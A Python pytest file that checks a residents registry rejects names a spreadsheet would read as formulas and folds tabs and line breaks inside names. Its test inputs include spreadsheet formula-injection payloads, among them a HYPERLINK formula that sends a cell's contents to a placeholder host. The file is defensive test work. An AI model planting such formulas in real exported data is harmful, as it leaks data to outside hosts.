"""The registry refuses a name that a spreadsheet would read as a formula (decision of issue 13)."""

from __future__ import annotations

import pytest

from models.core.errors import ValidationFailed
from models.residents.names import InvalidNameError, normalise_name
from models.residents.registry import ResidentInput, create_resident


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x?"&D2,"详情")', "+张三", "-李四", "@王五", "\t=cmd", " =1+1"])
def test_a_formula_like_name_is_refused_with_a_clear_message(name):
    with pytest.raises(InvalidNameError, match="cannot start with .* formula"):
        normalise_name(name)


def test_tabs_and_line_breaks_inside_a_name_are_folded_never_stored():
    assert normalise_name("张\t三\r\n明") == "张 三 明"
    assert normalise_name("阿卜杜-热合曼") == "阿卜杜-热合曼"  # a hyphen inside is fine


def test_create_resident_refuses_it_on_the_name_field(db, today):
    with db.write() as s, pytest.raises(ValidationFailed) as info:
        create_resident(s, ResidentInput(name='=HYPERLINK("http://x")'), today=today)
    assert "formula" in info.value.errors["name"]
